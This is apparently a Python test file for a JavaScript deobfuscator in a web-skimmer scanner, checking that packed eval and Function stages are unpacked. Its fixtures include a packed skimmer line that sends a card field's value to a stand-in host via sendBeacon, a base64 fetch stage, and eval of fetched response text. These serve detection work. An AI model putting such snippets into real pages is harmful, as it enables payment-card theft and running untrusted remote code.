"""packers: eval/Function stages built from constants are computed and put in place."""

from skimscan.analyze.deobfuscate import builtin_calls, packers
from tests.deobfuscate.helpers import rewrite

#: A packer in the style of Dean Edwards': a function expression called with the packed text
#: and its dictionary, whose result is handed to eval.
PACKED = ("eval(function (p, a, c, k, e, d) { while (c--) if (k[c]) p = p.replace("
          "new RegExp('\\\\b' + c.toString(a) + '\\\\b', 'g'), k[c]); return p; }"
          "('3.4(\\'5://6.7/c\\', 2.8);', 36, 9,"
          " '||card|navigator|sendBeacon|https|drop|example|value'.split('|'), 0, {}))")


def test_dean_edwards_packer_is_unpacked_in_place() -> None:
    out = rewrite(PACKED, builtin_calls, packers)
    assert 'navigator.sendBeacon("https://drop.example/c", card.value);' in out.code
    assert "eval(" not in out.code
    assert [s.via for s in out.stages] == ["eval"] and out.stages[0].decoded


def test_function_constructor_stage_becomes_an_iife() -> None:
    out = rewrite("Function(atob('ZmV0Y2goJ2h0dHBzOi8veC5leGFtcGxlJyk='))();",
                  builtin_calls, packers)
    assert '(function () {' in out.code and 'fetch("https://x.example");' in out.code


def test_eval_of_run_time_data_stays() -> None:
    out = rewrite("eval(xhr.responseText); var cfg = eval('(' + window.json + ')');", packers)
    assert "eval(xhr.responseText)" in out.code and not out.stages
